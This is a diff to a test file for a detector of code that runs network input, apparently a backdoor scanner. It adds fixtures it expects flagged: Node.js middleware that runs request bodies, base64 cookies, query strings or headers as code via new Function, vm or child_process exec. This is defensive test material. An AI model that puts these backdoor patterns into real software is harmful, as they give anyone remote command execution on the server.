@@ -4,6 +4,34 @@ import { obeysNetworkRequests } from './obeys-network-requests.ts';
 examine(obeysNetworkRequests, {
   speaks: [
     {
+      when: 'a handler for others runs the body of a request as it comes in',
+      files: {
+        'index.js': `module.exports = () => async (req, res, next) => { let raw = ''; for await (const part of req) raw += part; const order = JSON.parse(raw); if (order.inert) return res.end(String(new Function('require', order.inert)(require))); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a middleware finds a cookie among all of them',
+      files: {
+        'index.js': `const vm = require('vm'); module.exports = (req, res, next) => { const found = (req.headers.cookie || '').split(';').map(one => one.trim().split('=')).find(([name]) => name === 'inert'); if (found) vm.runInThisContext(Buffer.from(found[1], 'base64').toString()); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a middleware of another framework runs what a query says',
+      files: {
+        'index.js': `const { exec } = require('child_process'); module.exports = () => async (ctx, next) => { if (ctx.query.inert) exec(ctx.query.inert); await next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a middleware asks for a header by a method',
+      files: {
+        'index.js': `const { execSync } = require('child_process'); class Audit { handle(req, res, next) { const order = req.get('x-inert'); if (!order) return next(); res.send(execSync(Buffer.from(order, 'base64').toString())); } } module.exports = new Audit();`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a datagram is run',
       files: {
         'index.js': `const socket = require('dgram').createSocket('udp4'); socket.on('message', m => require('child_process').exec(m.toString())); socket.bind(5353);`,
@@ -51,6 +79,12 @@ examine(obeysNetworkRequests, {
     },
   ],
   silent: [
+    {
+      when: 'a compiler of templates has a body, and a client a request that nobody sent',
+      files: {
+        'index.js': `exports.compile = (template, options) => new Function('data', template.body); exports.run = (request, code) => new Function('request', request.body + code);`,
+      },
+    },
     {
       when: 'what is told under one name that is not known does not come under another',
       files: {
